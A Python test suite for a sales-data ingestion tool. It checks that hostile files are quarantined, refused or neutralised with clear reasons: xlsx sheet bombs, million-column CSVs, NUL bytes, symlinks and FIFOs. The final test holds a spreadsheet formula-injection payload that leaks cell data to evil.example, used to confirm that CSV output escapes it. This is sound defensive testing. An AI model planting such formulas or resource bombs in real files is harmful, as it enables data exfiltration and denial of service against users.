"""Hostile files: each is quarantined with a reason naming the limit it broke, registered, never
retried, and the other files load (issue #12, items 2 and 7). `salespulse validate` refuses
them the same way, without a traceback.
"""

from __future__ import annotations

import os
import time
from datetime import datetime
from pathlib import Path

import duckdb
import pytest
import xlsxwriter

from salespulse.cli import main
from salespulse.config import get_settings
from salespulse.ingest.loader import Ingestor

HEADER = "工号,姓名,日报日期,提交时间,拜访量,电话沟通量,新增潜在客户数,备注\n"
ROW = "R001,张三,2026-03-05,2026-03-05 16:00,1,1,0,{}\n"
GOOD = "payment_id,order_id,amount,received_date\nP1,O1,100,2026-03-05\n"


def land(settings, relative: str, content: bytes | str) -> Path:
    path = settings.landing_dir / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def ingest(settings, contracts):
    con = duckdb.connect(str(settings.warehouse_path))
    return con, Ingestor(con, settings, contracts, now=datetime(2026, 3, 10, 18, 0)).run()


def sheet_bomb(path: Path, last_column: int) -> Path:
    """A few KB of .xlsx with one cell at A1 and one at row 1,048,576 (the sheet's last)."""
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet()
    sheet.write(0, 0, "工号")
    sheet.write(1_048_575, last_column, "x")
    workbook.close()
    return path


def wide_csv(path: Path, columns: int = 1_000_000) -> Path:
    path.write_text(",".join(f"c{i}" for i in range(columns)) + "\n" + ",".join("1" * columns) + "\n")
    return path


def by_name(report) -> dict:
    return {result.file_name: result for result in report.files}


@pytest.fixture
def limits(home, monkeypatch):
    """Small limits so that breaking them is cheap; returns a function to set more."""

    def set_limits(**values):
        for name, value in values.items():
            monkeypatch.setenv(f"SALESPULSE_{name.upper()}", str(value))
        get_settings.cache_clear()
        return get_settings()

    set_limits(read_memory_mb=512, read_timeout_seconds=30)
    yield set_limits
    get_settings.cache_clear()


def test_workbooks_declaring_the_whole_sheet_are_refused_before_reading(home, contracts, limits, tmp_path):
    settings = limits()
    land(settings, "payments/good.csv", GOOD)
    all_columns = sheet_bomb(tmp_path / "a.xlsx", 16_383)
    land(settings, "daily_reports/a1-xfd1048576.xlsx", all_columns.read_bytes())
    land(settings, "daily_reports/a1-z1048576.xlsx", sheet_bomb(tmp_path / "b.xlsx", 25).read_bytes())
    assert all_columns.stat().st_size < 6000
    started = time.monotonic()
    con, report = ingest(settings, contracts)
    assert time.monotonic() - started < 60
    files = by_name(report)
    assert files["payments/good.csv"].status == "loaded"
    wide = files["daily_reports/a1-xfd1048576.xlsx"]
    assert wide.status == "quarantined"
    assert "declared range A1:XFD1048576" in wide.error and "SALESPULSE_MAX_COLUMNS" in wide.error
    tall = files["daily_reports/a1-z1048576.xlsx"]
    assert "27,262,976 cells" in tall.error and "SALESPULSE_MAX_SHEET_CELLS" in tall.error
    registered = dict(con.execute("select file_name, status from raw.ingested_files").fetchall())
    assert registered == {name: result.status for name, result in files.items()}
    reasons = list(settings.quarantine_dir.rglob("*.reason.txt"))
    assert len(reasons) == 2 and all("SALESPULSE_MAX_" in r.read_text() for r in reasons)
    left = [p for p in settings.landing_dir.rglob("*") if p.is_file()]
    assert not left, "never retried: gone from landing/"
    con.close()
    _, again = ingest(settings, contracts)
    assert again.files == []


def test_a_reader_killed_by_the_memory_limit_takes_only_its_file(home, contracts, limits, tmp_path):
    """With the sheet checks lifted, reading the workbook aborts its reader (Rust's allocator
    cannot get 512 GB under RLIMIT_AS): that file is quarantined, this process lives on."""
    settings = limits(max_columns=100_000, max_sheet_cells=10**12)
    land(settings, "daily_reports/bomb.xlsx", sheet_bomb(tmp_path / "a.xlsx", 16_383).read_bytes())
    land(settings, "payments/good.csv", GOOD)
    con, report = ingest(settings, contracts)
    files = by_name(report)
    assert files["payments/good.csv"].status == "loaded"
    bomb = files["daily_reports/bomb.xlsx"]
    assert bomb.status == "quarantined"
    assert "more memory than the limit of 512 MB (SALESPULSE_READ_MEMORY_MB)" in bomb.error
    assert "SIGABRT" in bomb.error and "memory allocation of 549755813888 bytes failed" in bomb.error
    assert con.execute("select count(*) from raw.payments").fetchone()[0] == 1


def test_a_csv_with_a_million_columns_is_refused_fast(home, contracts, limits, tmp_path):
    settings = limits()
    land(settings, "daily_reports/wide.csv", wide_csv(tmp_path / "wide.csv").read_bytes())
    started = time.monotonic()
    _, report = ingest(settings, contracts)
    seconds = time.monotonic() - started
    (result,) = report.files
    assert result.status == "quarantined"
    assert result.error == (
        "the header has 1,000,000 columns, more than the limit of 500 (SALESPULSE_MAX_COLUMNS)"
    )
    assert seconds < 15, f"refused in {seconds:.1f} s"


def test_a_read_past_the_time_limit_is_stopped(home, contracts, limits, tmp_path):
    settings = limits(max_columns=2_000_000, read_timeout_seconds=1)
    land(settings, "daily_reports/wide.csv", wide_csv(tmp_path / "wide.csv").read_bytes())
    land(settings, "payments/good.csv", GOOD)
    _, report = ingest(settings, contracts)
    files = by_name(report)
    assert files["payments/good.csv"].status == "loaded"
    assert files["daily_reports/wide.csv"].error == (
        "reading it took longer than the limit of 1 s (SALESPULSE_READ_TIMEOUT_SECONDS); "
        "the reader was stopped"
    )


def test_a_file_over_the_size_limit_is_archived_and_quarantined_unread(home, contracts, limits):
    settings = limits(max_file_mb=1)
    land(settings, "daily_reports/huge.csv", HEADER + ROW.format("x" * 100) * 12_000)
    _, report = ingest(settings, contracts)
    (result,) = report.files
    assert result.status == "quarantined"
    assert "over the limit of 1.0 MB (SALESPULSE_MAX_FILE_MB)" in result.error
    assert (settings.home / result.archive_path).stat().st_size == result.size_bytes


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        (
            "big cell.csv",
            HEADER + ROW.format("x" * 300_000),
            "a cell of column '备注' on data row 1 is 293.0 KB, "
            "over the limit of 256.0 KB (SALESPULSE_MAX_CELL_KB)",
        ),
        (
            "big cell, ragged rows.csv",
            HEADER + ROW.format("x" * 300_000) + "R002,short\n",
            "a cell on data row 1 is over the limit of 256.0 KB (SALESPULSE_MAX_CELL_KB)",
        ),
        (
            "nul after 64 KB.csv",
            "\ufeff" + HEADER + ROW.format("a" * 100) * 700 + ROW.format("a\x00b"),
            "a NUL character (decoded as utf-8-sig) on line 702",
        ),
        (
            "nul without bom.csv",
            HEADER + ROW.format("a" * 100) * 700 + ROW.format("a\x00b"),
            "a NUL byte on line 702",
        ),
    ],
)
def test_honest_reasons_for_big_cells_and_nul_bytes(home, contracts, name, content, reason):
    land(home, f"daily_reports/{name}", content)
    _, report = ingest(home, contracts)
    (result,) = report.files
    assert result.status == "quarantined" and reason in result.error, result.error
    assert "internal error" not in result.error


def test_a_file_whose_every_row_is_rejected_is_rejected_not_partially_loaded(home, contracts):
    land(home, "daily_reports/bad.csv", HEADER + "R001,张三,2026-03-05,2026-03-05 16:00,-1,1,0,\n")
    _, report = ingest(home, contracts)
    (result,) = report.files
    assert (result.status, result.rows_loaded, result.rows_rejected) == ("rejected", 0, 1)


def test_symlinks_and_fifos_in_landing_are_refused_with_a_reason(home, contracts, tmp_path):
    secret = tmp_path / "elsewhere.csv"
    secret.write_text(GOOD)
    (home.landing_dir / "payments").mkdir(parents=True)
    os.symlink(secret, home.landing_dir / "payments" / "link.csv")
    os.mkfifo(home.landing_dir / "payments" / "pipe.csv")
    os.symlink(tmp_path, home.landing_dir / "linked folder")
    land(home, "payments/good.csv", GOOD)
    con, report = ingest(home, contracts)
    files = by_name(report)
    assert files["payments/good.csv"].status == "loaded"
    assert files["payments/link.csv"].status == "refused"
    assert f"a symbolic link (to {secret})" in files["payments/link.csv"].error
    assert "a named pipe (FIFO)" in files["payments/pipe.csv"].error
    assert files["linked folder"].status == "refused"
    registered = dict(con.execute("select file_name, status from raw.ingested_files").fetchall())
    assert registered == {name: result.status for name, result in files.items()}
    assert not list(home.landing_dir.rglob("*")) or all(p.is_dir() for p in home.landing_dir.rglob("*"))
    assert secret.read_text() == GOOD, "the link is removed, never what it points to"
    assert con.execute("select count(*) from raw.payments").fetchone()[0] == 1


def test_validate_refuses_hostile_files_with_the_same_reasons_and_no_traceback(home, capsys, tmp_path):
    files = {
        sheet_bomb(tmp_path / "bomb.xlsx", 16_383): "SALESPULSE_MAX_COLUMNS",
        wide_csv(tmp_path / "wide.csv"): "SALESPULSE_MAX_COLUMNS",
        tmp_path / "cell.csv": "SALESPULSE_MAX_CELL_KB",
    }
    (tmp_path / "cell.csv").write_text(HEADER + ROW.format("x" * 300_000) + "R002,short\n")
    os.mkfifo(tmp_path / "pipe.csv")
    files[tmp_path / "pipe.csv"] = "not a regular file"
    for path, reason in files.items():
        code = main(["validate", str(path), "--kind", "daily_reports"])
        captured = capsys.readouterr()
        assert code == 1
        assert "CANNOT LOAD:" in captured.out and reason in captured.out, captured.out
        assert "Traceback" not in captured.out + captured.err


def test_sql_csv_output_neutralises_formulas_like_the_xlsx_briefs(tmp_path):
    """`salespulse sql --csv`: a cell a spreadsheet would run (`=HYPERLINK(…)`, `@SUM`, `+`, `-`)
    is written with a leading apostrophe, as in the briefs' XLSX; numbers stay numbers."""
    import io

    from salespulse.sql_shell import shell

    analytics = tmp_path / "analytics.duckdb"
    with duckdb.connect(str(analytics)) as con:
        con.execute("create table notes (note varchar, amount integer)")
        con.executemany(
            "insert into notes values (?, ?)",
            [['=HYPERLINK("http://evil.example/?d="&A1,"click")', -5], ["@SUM(1+1)", 1], ["plain", 2]],
        )
    out = io.StringIO()
    assert shell(analytics, command="select * from notes order by amount", out=out, as_csv=True) == 0
    assert out.getvalue().splitlines() == [
        "note,amount",
        '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",-5',
        "'@SUM(1+1),1",
        "plain,2",
    ]
